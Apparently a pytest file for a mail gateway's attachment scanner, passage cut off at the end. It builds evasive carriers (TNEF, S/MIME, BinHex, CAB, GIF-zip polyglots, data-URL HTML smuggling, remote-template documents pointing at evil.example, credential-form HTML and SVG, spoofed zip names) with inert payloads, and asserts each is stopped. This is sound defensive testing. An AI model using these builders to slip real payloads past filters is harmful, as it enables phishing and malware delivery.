"""Issue 13: every container a mainstream client opens is opened here too, and what cannot be
read for sure is quarantined, never relayed.

Each sample is a built message; the verdict is the one the attachment plugin and rules/ give
(the scan's findings plus rules/attachments.toml's decision, scored and forced by rules/).
"""

from __future__ import annotations

import asyncio
import base64
import binascii
import contextlib
import datetime
import io
import struct
import zipfile
import zlib
from pathlib import Path

import aiosmtplib
import pytest
from asn1crypto import cms
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import pkcs7
from cryptography.x509.oid import NameOID
from harness import REPO, GatewayFactory, RecordingSink, make_settings
from mime_samples import (
    OLETOOLS,
    eicar,
    inspect,
    oletools_sample,
    tar_of,
    tiny_pe,
    with_attachment,
    zip_of,
)
from pypdf import PdfWriter

from gateway.config import PluginSettings
from gateway.mime.policy import AttachmentPolicy
from gateway.policy import load_rules
from gateway.verdict import Action, Finding

try:
    from compression import zstd  # type: ignore[import-not-found,unused-ignore]
except ImportError:
    from backports import zstd  # type: ignore[no-redef,unused-ignore]

RULES = REPO / "rules"
_RULES = load_rules(RULES)


def verdict(raw: bytes) -> tuple[Action, set[str]]:
    """What the MIME and attachment stages and rules/ decide for `raw`."""
    report, content, symbols = inspect(raw)
    found: list[Finding] = [*report.findings, *content.findings]
    found += AttachmentPolicy().decide(content.files, "a@example.net", ["b@example.com"])
    symbols |= {f.symbol for f in found}
    return _RULES.decide(found).action, symbols


STOPPED = (Action.QUARANTINE, Action.REJECT)


# -- builders --------------------------------------------------------------------------------------


def tnef_of(files: dict[str, bytes]) -> bytes:
    """A minimal winmail.dat: version, code page, then per file its rendering, title and data."""

    def attribute(level: int, name: int, kind: int, data: bytes) -> bytes:
        checksum = sum(data) & 0xFFFF
        return (
            struct.pack("<BHHI", level, name, kind, len(data)) + data + struct.pack("<H", checksum)
        )

    out = struct.pack("<IH", 0x223E9F78, 1)
    out += attribute(1, 0x9006, 0x0008, struct.pack("<I", 0x10000))
    out += attribute(1, 0x9007, 0x0006, struct.pack("<II", 1252, 0))
    for name, data in files.items():
        out += attribute(2, 0x9002, 0x0006, b"\x01\x00" + b"\xff" * 12)
        out += attribute(2, 0x8010, 0x0001, name.encode() + b"\x00")
        out += attribute(2, 0x800F, 0x0006, data)
    return out


def signed_smime(inner: bytes) -> bytes:
    """An opaque S/MIME signed-data blob made by OpenSSL (through cryptography)."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "alice@example.net")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    return (
        pkcs7.PKCS7SignatureBuilder()
        .set_data(inner)
        .add_signer(cert, key, hashes.SHA256())
        .sign(serialization.Encoding.DER, [pkcs7.PKCS7Options.Binary])
    )


def smime_message(blob: bytes) -> bytes:
    return (
        "From: Alice <alice@example.net>\r\nTo: bob@example.com\r\nSubject: signed\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"\r\n'
        "Content-Transfer-Encoding: base64\r\n"
        'Content-Disposition: attachment; filename="smime.p7m"\r\n\r\n'
        + base64.encodebytes(blob).decode()
    ).encode()


def entity(name: str, data: bytes, ctype: str = "application/octet-stream") -> bytes:
    return (
        f'Content-Type: {ctype}; name="{name}"\r\nContent-Transfer-Encoding: base64\r\n'
        f'Content-Disposition: attachment; filename="{name}"\r\n\r\n'
    ).encode() + base64.encodebytes(data)


def cab_of(files: dict[str, bytes], mszip: bool = True) -> bytes:
    """A one-folder cabinet: stored, or MSZIP in 32 KiB blocks."""
    stream = b"".join(files.values())
    blocks = [stream[i : i + 32768] for i in range(0, len(stream), 32768)] or [b""]
    entries = b""
    offset = 0
    for name, data in files.items():
        entries += struct.pack("<IIHHHH", len(data), offset, 0, 0, 0, 0x20) + name.encode()
        entries += b"\x00"
        offset += len(data)
    files_at = 36 + 8
    data_at = files_at + len(entries)
    body = b""
    for block in blocks:
        if mszip:
            deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed = b"CK" + deflate.compress(block) + deflate.flush()
        else:
            packed = block
        body += struct.pack("<IHH", 0, len(packed), len(block)) + packed
    size = data_at + len(body)
    header = struct.pack(
        "<4sIIIIIBBHHHHH", b"MSCF", 0, size, 0, files_at, 0, 3, 1, 1, len(files), 0, 0, 0
    )
    folder = struct.pack("<IHH", data_at, len(blocks), 1 if mszip else 0)
    return header + folder + entries + body


def binhex_of(name: str, data: bytes) -> bytes:
    """BinHex 4.0 as BinHex writes it: run-length coded (0x90), then 6-bit text."""
    raw = bytes([len(name)]) + name.encode() + b"\x00" + b"TEXTttxt" + b"\x00\x00"
    raw += struct.pack(">II", len(data), 0) + b"\x00\x00" + data + b"\x00\x00" + b"\x00\x00"
    packed = bytearray()
    index = 0
    while index < len(raw):
        byte = raw[index]
        run = 1
        while index + run < len(raw) and raw[index + run] == byte and run < 255:
            run += 1
        packed += b"\x90\x00" if byte == 0x90 else bytes([byte])
        if run >= 3 and byte != 0x90:
            packed += bytes([0x90, run])
        else:
            run = 1
        index += run
    alphabet = b"!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"
    bits = "".join(f"{byte:08b}" for byte in packed)
    bits += "0" * (-len(bits) % 6)
    text = bytes(alphabet[int(bits[i : i + 6], 2)] for i in range(0, len(bits), 6))
    lines = b"\n".join(text[i : i + 64] for i in range(0, len(text), 64))
    return b"(This file must be converted with BinHex 4.0)\n:" + lines + b":\n"


def yenc_of(name: str, data: bytes) -> bytes:
    encoded = bytearray()
    for byte in data:
        value = (byte + 42) & 0xFF
        if value in (0, 10, 13, 61):
            encoded += bytes([61, (value + 64) & 0xFF])
        else:
            encoded.append(value)
    return (
        f"=ybegin line=128 size={len(data)} name={name}\r\n".encode()
        + bytes(encoded)
        + f"\r\n=yend size={len(data)}\r\n".encode()
    )


def uu_of(name: str, data: bytes) -> bytes:
    lines = [binascii.b2a_uu(data[i : i + 45]) for i in range(0, len(data), 45)]
    return f"begin 644 {name}\n".encode() + b"".join(lines) + b"`\nend\n"


def docx_with_template(target: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Override PartName="/word/document.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr(
            "word/_rels/settings.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/attachedTemplate" '
            f'Target="{target}" TargetMode="External"/></Relationships>',
        )
    return out.getvalue()


def pdf_encrypted(user_password: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(72, 72)
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def html_message(html: str, filename: str, ctype: str = "text/html") -> bytes:
    if ctype == "utf-16":
        return with_attachment(html.encode("utf-16-le"), filename)
    return with_attachment(html.encode(), filename, ctype=ctype)


# -- containers that hold a payload ----------------------------------------------------------------


@pytest.mark.parametrize("payload", ["exe", "eicar", "js"])
@pytest.mark.parametrize(
    "container",
    [
        "gif_zip",
        "tnef",
        "smime",
        "binhex",
        "yenc",
        "uu_attachment",
        "uu_in_zip_text",
        "b64_rfc822",
        "b64_multipart",
        "cab_mszip",
        "cab_stored",
        "tar_zst",
        "eml_in_zip",
    ],
)
def test_each_container_holding_a_payload_is_stopped(container: str, payload: str) -> None:
    name, data = {
        "exe": ("invoice.exe", tiny_pe()),
        "eicar": ("readme.txt", eicar()),
        "js": ("invoice.js", b"WScript.Echo('x');\n"),
    }[payload]
    if container == "gif_zip":
        raw = with_attachment(
            b"GIF89a\x01\x00\x01\x00" + b"\x00" * 40 + zip_of({name: data}),
            "photo.gif",
            ctype="image/gif",
        )
    elif container == "tnef":
        raw = with_attachment(tnef_of({name: data}), "winmail.dat", ctype="application/ms-tnef")
    elif container == "smime":
        raw = smime_message(signed_smime(entity(name, data)))
    elif container == "binhex":
        raw = with_attachment(binhex_of(name, data), "file.hqx", ctype="application/mac-binhex40")
    elif container == "yenc":
        raw = with_attachment(yenc_of(name, data), "post.txt", ctype="text/plain")
    elif container == "uu_attachment":
        raw = with_attachment(uu_of(name, data), "data.uue")
    elif container == "uu_in_zip_text":
        raw = with_attachment(zip_of({"notes.txt": uu_of(name, data)}), "notes.zip")
    elif container in ("b64_rfc822", "b64_multipart"):
        inner = (
            b"From: a@example.net\r\nSubject: fwd\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="in"\r\n\r\n--in\r\n'
            + entity(name, data)
            + b"--in--\r\n"
        )
        if container == "b64_multipart":
            inner = inner.split(b"\r\n\r\n", 1)[1]  # the body only: the header is the outer one
            ctype = 'multipart/mixed; boundary="in"'
        else:
            ctype = "message/rfc822"
        raw = (
            b"From: a@example.net\r\nTo: b@example.com\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="out"\r\n\r\n--out\r\n'
            b"Content-Type: "
            + ctype.encode()
            + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(inner)
            + b"--out--\r\n"
        )
    elif container in ("cab_mszip", "cab_stored"):
        cab = cab_of({name: data}, mszip=container == "cab_mszip")
        raw = with_attachment(cab, "update.cab", ctype="application/vnd.ms-cab-compressed")
    elif container == "tar_zst":
        raw = with_attachment(zstd.compress(tar_of({name: data})), "backup.tar.zst")
    else:
        eml = b"From: a@example.net\r\nSubject: x\r\nMIME-Version: 1.0\r\n" + entity(name, data)
        raw = with_attachment(zip_of({"message.eml": eml}), "mail.zip")
    action, symbols = verdict(raw)
    assert action in STOPPED, sorted(symbols)
    if payload == "eicar":
        assert "ATT_EICAR_TEST" in symbols, sorted(symbols)
        assert action is Action.REJECT
    else:
        assert symbols & {"ATT_EXECUTABLE", "ATT_SCRIPT", "ATT_POLICY_REJECT"}, sorted(symbols)


def test_the_zip_behind_a_gif_is_a_polyglot_and_its_members_are_policy_checked() -> None:
    gif_zip = b"GIF89a\x01\x00\x01\x00" + b"\x00" * 40 + zip_of({"run.exe": tiny_pe()})
    _report, content, symbols = inspect(with_attachment(gif_zip, "photo.gif", ctype="image/gif"))
    assert "ATT_POLYGLOT" in symbols
    member = next(f for f in content.files if f.name == "run.exe")
    assert (member.family, member.archive_depth) == ("executable", 1)


def test_a_double_extension_inside_a_compressed_file_is_found() -> None:
    import lzma

    xz = lzma.compress(b"just text\n")
    _r, _c, symbols = inspect(with_attachment(xz, "invoice.pdf.scr.xz"))
    assert {"ATT_DOUBLE_EXTENSION", "ATT_EXECUTABLE"} <= symbols
    # gzip keeps the original name in its header (gunzip -N restores it)
    stored = io.BytesIO()
    import gzip

    with gzip.GzipFile(filename="invoice.pdf.exe", mode="wb", fileobj=stored) as handle:
        handle.write(b"just text\n")
    action, symbols = verdict(with_attachment(stored.getvalue(), "archive.gz"))
    assert "ATT_DOUBLE_EXTENSION" in symbols and action is Action.REJECT


# -- what cannot be read is quarantined ------------------------------------------------------------


def test_corrupt_and_unsupported_containers_are_quarantined() -> None:
    for data, name in (
        (b"PK\x03\x04" + b"\x00" * 100, "broken.zip"),
        (cab_of({"a.txt": b"x" * 10}, mszip=True)[:-5], "cut.cab"),
        (b"\x60\xea\x1e\x00" + bytes([30, 11, 1, 2, 0, 0, 2]) + b"\x00" * 200, "old.arj"),
    ):
        action, symbols = verdict(with_attachment(data, name))
        assert action is Action.QUARANTINE, (name, sorted(symbols))
        assert symbols & {"ARCHIVE_CORRUPT", "ARCHIVE_UNSUPPORTED"}


def test_a_lzx_cabinet_is_unsupported_and_quarantined() -> None:
    cab = bytearray(cab_of({"a.txt": b"hello"}, mszip=False))
    struct.pack_into("<H", cab, 36 + 6, 0x1503)  # LZX, window 2^21
    action, symbols = verdict(with_attachment(bytes(cab), "a.cab"))
    assert "ARCHIVE_UNSUPPORTED" in symbols and action is Action.QUARANTINE


def test_a_cabinet_bomb_is_bounded() -> None:
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb_block = b"CK" + deflate.compress(b"\x00" * 1_000_000) + deflate.flush()
    cab = bytearray(cab_of({"a.txt": b"x"}, mszip=True))
    data_at = struct.unpack_from("<I", cab, 36)[0]
    cab = cab[:data_at] + struct.pack("<IHH", 0, len(bomb_block), 32768) + bomb_block
    action, symbols = verdict(with_attachment(bytes(cab), "a.cab"))
    assert action is Action.QUARANTINE and "ARCHIVE_CORRUPT" in symbols


def test_an_encrypted_pdf_is_quarantined_and_a_permissions_only_one_read() -> None:
    action, symbols = verdict(
        with_attachment(pdf_encrypted("secret"), "statement.pdf", ctype="application/pdf")
    )
    assert "PDF_ENCRYPTED" in symbols and action is Action.QUARANTINE
    action, symbols = verdict(
        with_attachment(pdf_encrypted(""), "statement.pdf", ctype="application/pdf")
    )
    assert "PDF_ENCRYPTED" not in symbols and action is Action.RELAY, sorted(symbols)


def test_a_remote_template_is_quarantined_and_the_authors_own_is_not() -> None:
    action, symbols = verdict(
        with_attachment(docx_with_template("https://evil.example/t.dotm"), "cv.docx")
    )
    assert "DOC_REMOTE_TEMPLATE" in symbols and action is Action.QUARANTINE
    unc = docx_with_template("\\\\198.51.100.7\\share\\t.dotm")
    assert "DOC_REMOTE_TEMPLATE" in verdict(with_attachment(unc, "cv.docx"))[1]
    local = docx_with_template("file:///C:\\Users\\bob\\AppData\\Roaming\\Normal.dotm")
    action, symbols = verdict(with_attachment(local, "cv.docx"))
    assert not symbols & {"DOC_REMOTE_TEMPLATE", "DOC_EXTERNAL_LINK"}
    assert action is Action.RELAY
    rtf = b"{\\rtf1{\\*\\template http://evil.example/t.dotm}hello}"
    assert "DOC_REMOTE_TEMPLATE" in verdict(with_attachment(rtf, "letter.rtf"))[1]


# -- active HTML attachments -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "filename", "ctype"),
    [
        # a form and a script: 1.5 + 2.0 = 3.5, relayed before
        (
            '<form action="https://x.example/p"><input name=u></form><script>go()</script>',
            "invoice.html",
            "text/html",
        ),
        (
            "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
            "logo.svg",
            "image/svg+xml",
        ),
        (
            "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><form action='https://x.example"
            "/p'><input name=q></form></foreignObject></svg>",
            "chart.svg",
            "image/svg+xml",
        ),
        (
            "<svg xmlns='http://www.w3.org/2000/svg'><a xlink:href='javascript:go()'><text>x"
            "</text></a></svg>",
            "map.svg",
            "image/svg+xml",
        ),
        (
            '<iframe src="data:text/html;base64,'
            + base64.b64encode(b"<form><input type=password name=p></form>").decode()
            + '"></iframe>',
            "page.htm",
            "application/octet-stream",
        ),
        (
            "<p>hi</p><iframe srcdoc=\"<script>location='https://x.example'</script>\"></iframe>",
            "page.html",
            "text/html",
        ),
        # UTF-16 with its byte order mark, declared as a download: browsers render it
        (
            "\ufeff<form action='https://x.example/p'><input type=password name=p></form>",
            "utf16.html",
            "utf-16",
        ),
    ],
)
def test_active_html_attachments_are_quarantined(html: str, filename: str, ctype: str) -> None:
    action, symbols = verdict(html_message(html, filename, ctype))
    assert "ATT_HTML_ACTIVE" in symbols, sorted(symbols)
    assert action in STOPPED


def test_a_static_html_attachment_and_a_body_form_are_not_active_attachments() -> None:
    action, symbols = verdict(html_message("<h1>Minutes</h1><p>see you</p>", "minutes.html"))
    assert "ATT_HTML_ACTIVE" not in symbols and action is Action.RELAY
    body = (
        b"From: a@example.net\r\nTo: b@example.com\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: text/html\r\n\r\n<form action='/s'><input name=q></form>\r\n"
    )
    assert "ATT_HTML_ACTIVE" not in verdict(body)[1]


def test_zero_size_fonts_and_many_invisible_parts() -> None:
    salted = "".join(
        f"Pay<span style='font-size:0px !important'>{i}zq</span>Pal " for i in range(20)
    )
    _r, _c, symbols = inspect(html_message(f"<p>{salted}</p>", "x.html"))
    assert {"HTML_ZERO_FONT", "HTML_MANY_INVISIBLE", "HTML_HIDDEN_TEXT"} <= symbols
    # responsive templates zero a container's font and size each block: nothing is hidden
    template = (
        "<td style='font-size:0'>"
        + "<div style='display:inline-block;font-size:14px'>A real paragraph of text here.</div>"
        * 20
        + "</td>"
    )
    _r, _c, symbols = inspect(html_message(template, "x.html"))
    assert not symbols & {"HTML_ZERO_FONT", "HTML_MANY_INVISIBLE", "HTML_HIDDEN_TEXT"}


# -- benign neighbours and false positives: relayed ------------------------------------------------


def test_an_ordinary_winmail_dat_is_opened_and_relayed() -> None:
    raw = with_attachment(
        tnef_of({"agenda.txt": b"10:00 coffee\n"}), "winmail.dat", ctype="application/ms-tnef"
    )
    action, symbols = verdict(raw)
    _r, content, _s = inspect(raw)
    assert any(f.name == "agenda.txt" and f.archive_depth == 1 for f in content.files)
    assert action is Action.RELAY, sorted(symbols)


def test_an_ordinary_signed_smime_message_is_opened_and_relayed() -> None:
    inner = b"Content-Type: text/plain\r\n\r\nThe minutes are attached below.\r\n"
    raw = smime_message(signed_smime(inner))
    action, symbols = verdict(raw)
    _r, content, _s = inspect(raw)
    assert any(f.archive_depth >= 1 and f.family == "text" for f in content.files)
    assert action is Action.RELAY, sorted(symbols)
    # the same blob as asn1crypto writes it (DER, the content as one OCTET STRING)
    der = cms.ContentInfo(
        {
            "content_type": "signed_data",
            "content": cms.SignedData(
                {
                    "version": "v1",
                    "digest_algorithms": [],
                    "encap_content_info": {"content_type": "data", "content": inner},
                    "signer_infos": [],
                }
            ),
        }
    ).dump()
    from gateway.mime import carriers

    assert carriers.cms_signed_content(der) == inner


@pytest.mark.parametrize(
    "name",
    ["setup (1.2.3).msi", "tool (2024.01.02).exe", "report (v1.2).scr", "App.x64.msi"],
)
def test_a_version_or_date_in_brackets_is_no_double_extension(name: str) -> None:
    _r, _c, symbols = inspect(with_attachment(b"x", name))
    assert "ATT_DOUBLE_EXTENSION" not in symbols


@pytest.mark.parametrize("name", ["invoice.pdf.exe", "invoice.pdf (1).exe", "scan.jpg.scr"])
def test_a_real_double_extension_still_is_one(name: str) -> None:
    _r, _c, symbols = inspect(with_attachment(b"x", name))
    assert "ATT_DOUBLE_EXTENSION" in symbols


def test_report_with_a_date_in_brackets_is_relayed() -> None:
    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    action, symbols = verdict(with_attachment(pdf, "report (2024-01-02).pdf", "application/pdf"))
    assert action is Action.RELAY, sorted(symbols)


def test_text_that_mentions_begin_is_no_uuencoded_file() -> None:
    raw = with_attachment(
        b"To begin with, begin 644 is a mode.\nbegin now\n", "notes.txt", ctype="text/plain"
    )
    action, symbols = verdict(raw)
    assert action is Action.RELAY, sorted(symbols)


def test_a_tar_zst_of_text_is_relayed() -> None:
    data = zstd.compress(tar_of({"notes.txt": b"hello\n"}))
    action, symbols = verdict(with_attachment(data, "notes.tar.zst"))
    assert action is Action.RELAY, sorted(symbols)


# -- over SMTP ------------------------------------------------------------------------------------


async def test_over_smtp_containers_are_refused_quarantined_or_relayed(
    tmp_path: Path, sink: RecordingSink, start_gateway: GatewayFactory
) -> None:
    """Real loopback SMTP: a TNEF-wrapped program is refused, an SVG with script waits in
    quarantine (250, kept on disk, not delivered), an ordinary winmail.dat is delivered."""
    settings = make_settings(
        tmp_path, sink.port, plugins=PluginSettings(order=("mime", "attachments"))
    )
    gw = await start_gateway(settings=settings)
    client = aiosmtplib.SMTP(hostname=gw.host, port=gw.port, start_tls=False, timeout=10)
    await client.connect()
    try:
        with pytest.raises(aiosmtplib.SMTPResponseException) as refused:
            await client.sendmail(
                "a@x.example",
                ["bob@example.com"],
                with_attachment(tnef_of({"invoice.exe": tiny_pe()}), "winmail.dat"),
            )
        assert refused.value.code == 554
        svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>go()</script></svg>"
        await client.sendmail(
            "a@x.example", ["bob@example.com"], html_message(svg, "logo.svg", "image/svg+xml")
        )
        benign = with_attachment(tnef_of({"agenda.txt": b"10:00 coffee\n"}), "winmail.dat")
        await client.sendmail("a@x.example", ["bob@example.com"], benign)
    finally:
        with contextlib.suppress(aiosmtplib.SMTPException):
            await client.quit()
    delivered = await asyncio.to_thread(sink.wait_for, 1)
    assert len(delivered) == 1 and b"winmail.dat" in delivered[0].content
    assert any((tmp_path / "quarantine").rglob("*")), "the SVG waits in quarantine"


def test_streamed_ber_signed_data_that_asn1crypto_refuses_is_still_unwrapped() -> None:
    """Indefinite lengths, the content in chunks, and a certificate field with an impossible
    length (asn1crypto gives up on the whole SignedData): the content comes before it."""
    from gateway.mime import carriers

    def tlv(tag: int, body: bytes) -> bytes:
        return bytes([tag, len(body)]) + body

    def indefinite(tag: int, *children: bytes) -> bytes:
        return bytes([tag, 0x80]) + b"".join(children) + b"\x00\x00"

    inner = entity("invoice.exe", tiny_pe())
    chunks = [inner[i : i + 100] for i in range(0, len(inner), 100)]
    data_oid = b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01"
    signed_oid = b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02"
    octets = indefinite(0x24, *(b"\x04\x82" + len(c).to_bytes(2, "big") + c for c in chunks))
    blob = indefinite(
        0x30,
        signed_oid,
        indefinite(
            0xA0,
            indefinite(
                0x30,
                tlv(0x02, b"\x01"),
                tlv(0x31, b""),
                indefinite(0x30, data_oid, indefinite(0xA0, octets)),
                b"\xa0\x84\xff\xff\xff\xff",  # certificates [0]: a length past the end
            ),
        ),
    )
    assert carriers.cms_signed_content(blob) == inner
    action, symbols = verdict(smime_message(blob))
    assert action is Action.REJECT and "ATT_EXECUTABLE" in symbols, sorted(symbols)


def test_a_detached_signature_is_no_container() -> None:
    from gateway.mime import carriers

    assert not carriers.is_cms_signed(signed_smime(b"x"), "application/pkcs7-signature")


def test_headers_quoted_by_forwards_are_text_not_nested_messages() -> None:
    quoted = "".join(
        f"From: person{i}@example.net\r\nSent: Monday\r\nSubject: re: plans\r\n\r\n"
        for i in range(8)
    )
    raw = (
        "From: a@example.net\r\nTo: b@example.com\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/plain\r\n\r\n" + quoted + "see below\r\n"
    ).encode()
    action, symbols = verdict(raw)
    assert action is Action.RELAY and "ARCHIVE_TOO_DEEP" not in symbols, sorted(symbols)


def test_the_html_body_of_an_attached_message_is_no_active_attachment() -> None:
    eml = (
        b"From: news@example.net\r\nSubject: news\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: text/html\r\n\r\n<form action='https://news.example/s'>"
        b"<input name=q></form>\r\n"
    )
    _action, symbols = verdict(with_attachment(eml, "newsletter.eml", ctype="message/rfc822"))
    assert "ATT_HTML_ACTIVE" not in symbols, sorted(symbols)


def test_a_web_archive_is_opened_like_a_message() -> None:
    mht = (
        b"From: <Saved by Blink>\r\nSubject: login\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/related; boundary="m"\r\n\r\n--m\r\n'
        b"Content-Type: text/html\r\nContent-Location: https://x.example/\r\n\r\n"
        b"<form action='https://x.example/p'><input name=account></form>\r\n--m--\r\n"
    )
    action, symbols = verdict(with_attachment(mht, "invoice.mht"))
    assert "ATT_HTML_ACTIVE" in symbols and action in STOPPED, sorted(symbols)


def test_mangled_containers_give_findings_never_a_failed_scan() -> None:
    """Truncated and bit-flipped carriers (a fixed seed): each is read, refused as corrupt or
    unsupported, never a crash of the scan (which would show as "scan failed")."""
    import random

    from gateway.mime.content import scan
    from gateway.mime.parse import analyze

    rng = random.Random(13)
    samples = [
        (tnef_of({"a.txt": b"hello" * 20}), "winmail.dat"),
        (cab_of({"a.txt": b"hello" * 2000}), "a.cab"),
        (signed_smime(entity("a.txt", b"hello")), "smime.p7m"),
        (binhex_of("a.txt", b"hello" * 50), "a.hqx"),
        (yenc_of("a.txt", bytes(range(256))), "a.txt"),
        (zstd.compress(tar_of({"a.txt": b"hello"})), "a.tar.zst"),
        (b"GIF89a" + b"\x00" * 20 + zip_of({"a.txt": b"hello"}), "a.gif"),
    ]
    for data, name in samples:
        for _ in range(40):
            mangled = bytearray(data[: rng.randrange(1, len(data) + 1)])
            for _flip in range(rng.randrange(0, 4)):
                if mangled:
                    mangled[rng.randrange(len(mangled))] = rng.randrange(256)
            content = scan(analyze(with_attachment(bytes(mangled), name)))
            failed = [f.detail for f in content.findings if f.symbol == "ATT_UNSCANNABLE"]
            assert not any("scan failed" in d for d in failed), (name, failed)


# -- neighbours found in the issue 13 audit --------------------------------------------------------


def test_a_file_in_a_data_address_is_scanned() -> None:
    """HTML smuggling without script: a download link whose data: address is the program."""
    pe = base64.b64encode(tiny_pe()).decode()
    page = f'<a download="invoice.exe" href="data:application/octet-stream;base64,{pe}">Get</a>'
    action, symbols = verdict(html_message(page, "invoice.html"))
    assert "ATT_EXECUTABLE" in symbols and action is Action.REJECT, sorted(symbols)
    # without a download name, in an SVG, behind a #fragment: the content decides
    svg = (
        "<svg xmlns='http://www.w3.org/2000/svg'><a href='data:application/x-msdownload;base64,"
        f"{pe}#x'><text>open</text></a></svg>"
    )
    action, symbols = verdict(html_message(svg, "map.svg", "image/svg+xml"))
    assert "ATT_EXECUTABLE" in symbols and action is Action.REJECT, sorted(symbols)


def test_inline_images_in_data_addresses_are_no_files() -> None:
    gif = base64.b64encode(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;").decode()
    body = (
        b"From: a@example.net\r\nTo: b@example.com\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: text/html\r\n\r\n<p>Hi</p><img src='data:image/gif;base64,"
        + gif.encode()
        + b"'>\r\n"
    )
    _r, content, _s = inspect(body)
    assert not [f for f in content.files if f.archive_depth > 0]
    assert verdict(body)[0] is Action.RELAY


@pytest.mark.parametrize(
    ("html", "filename", "ctype"),
    [
        # an XML page names the script element with a prefix: it still runs
        (
            "<svg xmlns='http://www.w3.org/2000/svg' xmlns:h='http://www.w3.org/1999/xhtml'>"
            "<foreignObject><h:script>location='https://x.example/'</h:script></foreignObject>"
            "</svg>",
            "chart.svg",
            "image/svg+xml",
        ),
    ],
)
def test_more_active_html_attachments_are_quarantined(html: str, filename: str, ctype: str) -> None:
    action, symbols = verdict(html_message(html, filename, ctype))
    assert "ATT_HTML_ACTIVE" in symbols and action in STOPPED, sorted(symbols)


def test_an_svg_part_without_a_name_is_a_file() -> None:
    """An inline SVG part is no message text: a client lists it as a file to open."""
    raw = (
        b"From: a@example.net\r\nTo: b@example.com\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\n'
        b"Content-Type: text/plain\r\n\r\nhi\r\n--b1\r\n"
        b"Content-Type: image/svg+xml\r\nContent-Disposition: inline\r\n\r\n"
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>\r\n--b1--\r\n"
    )
    action, symbols = verdict(raw)
    assert "ATT_HTML_ACTIVE" in symbols and action in STOPPED, sorted(symbols)


@pytest.mark.parametrize("kind", ["7z", "rar"])
def test_a_7z_or_rar_behind_a_gif_is_opened(kind: str) -> None:
    """7-Zip and WinRAR find their archive past other data (as after a self-extractor)."""
    from mime_samples import rar5_member, rar5_of, sevenzip_of

    archive = (
        sevenzip_of({"invoice.exe": tiny_pe()})
        if kind == "7z"
        else rar5_of(rar5_member("invoice.exe", tiny_pe()))
    )
    gif = b"GIF89a\x01\x00\x01\x00" + b"\x00" * 40 + archive
    action, symbols = verdict(with_attachment(gif, "photo.gif", ctype="image/gif"))
    assert {"ATT_POLYGLOT", "ATT_EXECUTABLE"} <= symbols and action is Action.REJECT


@pytest.mark.parametrize(
    "ext",
    ["one", "library-ms", "search-ms", "appref-ms", "appinstaller", "diagcab", "msu", "iqy", "rdp"],
)
def test_names_windows_runs_or_connects_with_are_refused(ext: str) -> None:
    action, symbols = verdict(with_attachment(b"hello world\r\n", f"document.{ext}"))
    assert action is Action.REJECT and "ATT_POLICY_REJECT" in symbols, sorted(symbols)


def _zip_with_unicode_path(header_name: str, unicode_name: str, data: bytes) -> bytes:
    """A zip whose member carries an Info-ZIP Unicode Path extra field (0x7075)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo(header_name)
        shown = unicode_name.encode()
        crc = zlib.crc32(header_name.encode())
        info.extra = struct.pack("<HHBI", 0x7075, 5 + len(shown), 1, crc) + shown
        archive.writestr(info, data)
    return out.getvalue()


def test_a_zip_members_unicode_path_is_a_name_too() -> None:
    """7-Zip and WinRAR show the Unicode Path; zipfile and Explorer the header's name."""
    data = _zip_with_unicode_path("readme.txt", "readme.js", b"WScript.Echo('x');\n")
    action, symbols = verdict(with_attachment(data, "docs.zip"))
    assert {"ATT_SCRIPT", "ATT_NAME_AMBIGUOUS"} <= symbols and action is Action.REJECT
    same = _zip_with_unicode_path("résumé.txt", "résumé.txt", b"hello\n")
    action, symbols = verdict(with_attachment(same, "docs.zip"))
    assert "ATT_NAME_AMBIGUOUS" not in symbols and action is Action.RELAY, sorted(symbols)


@pytest.mark.parametrize(
